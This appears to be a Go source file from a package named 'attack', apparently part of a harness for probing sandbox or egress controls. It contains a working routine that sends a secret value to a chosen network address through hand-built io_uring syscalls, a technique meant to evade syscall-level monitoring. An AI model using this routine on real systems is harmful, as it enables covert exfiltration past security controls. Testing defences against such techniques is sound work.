package attack

import (
	"encoding/binary"
	"errors"
	"net/netip"
	"os"
	"runtime"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Layout of io_uring(7) (linux/io_uring.h).
const (
	ringSetup, ringEnter   = 425, 426
	ringEntries            = 8
	offSubmissions         = 0x10000000
	opSend, ringGetEvents  = 26, 1
	submissionSize         = 64
	paramsSize, sqRingSize = 120, 4096
)

// ring sends by io_uring: the kernel does it in another way, and perhaps in another thread's name.
func ring(a Aim, kind int, to netip.AddrPort) error {
	return datagramLike(a, kind, func(fd int) error {
		if err := connect(fd, sockaddr(to)); err != nil {
			return err
		}
		return submit(fd, []byte(Secret))
	})
}

// submit sends on a connected socket.
func submit(fd int, data []byte) error {
	_, err := submitEntry(opSend, fd, 0, uint32(len(data)), uint64(uintptr(unsafe.Pointer(&data[0])))) //nolint:gosec // struct io_uring_sqe
	runtime.KeepAlive(data)
	return err
}

// submitEntry has a ring of its own do one thing, and returns the ring's answer.
func submitEntry(operation byte, fd int, offset uint64, size uint32, at uint64) (int32, error) {
	var params [paramsSize]byte
	made, _, errno := unix.Syscall(ringSetup, ringEntries, uintptr(unsafe.Pointer(&params)), 0) //nolint:gosec // io_uring_setup(2)
	if errno != 0 {
		return 0, os.NewSyscallError("io_uring_setup", errno)
	}
	defer unix.Close(int(made))
	head, err := unix.Mmap(int(made), 0, sqRingSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return 0, os.NewSyscallError("mmap", err)
	}
	entries, err := unix.Mmap(int(made), offSubmissions, ringEntries*submissionSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return 0, errors.Join(os.NewSyscallError("mmap", err), unix.Munmap(head))
	}
	defer func() { _, _ = unix.Munmap(head), unix.Munmap(entries) }()
	native := binary.NativeEndian
	word := func(at int) uint32 { return native.Uint32(params[at:]) } // struct io_uring_params
	entries[0] = operation                                            // struct io_uring_sqe
	native.PutUint32(entries[4:], uint32(fd))                         //nolint:gosec // a file's number, or a family's
	native.PutUint64(entries[8:], offset)
	native.PutUint64(entries[16:], at)
	native.PutUint32(entries[24:], size)
	native.PutUint32(head[word(64):], 0)                            // the submission queue's array
	atomic.AddUint32((*uint32)(unsafe.Pointer(&head[word(44)])), 1) //nolint:gosec // the submission queue's tail
	_, _, errno = unix.Syscall6(ringEnter, made, 1, 1, ringGetEvents, 0, 0)
	return int32(native.Uint32(head[word(100)+8:])), errnoOrNil(errno) //nolint:gosec // the first completion's result
}
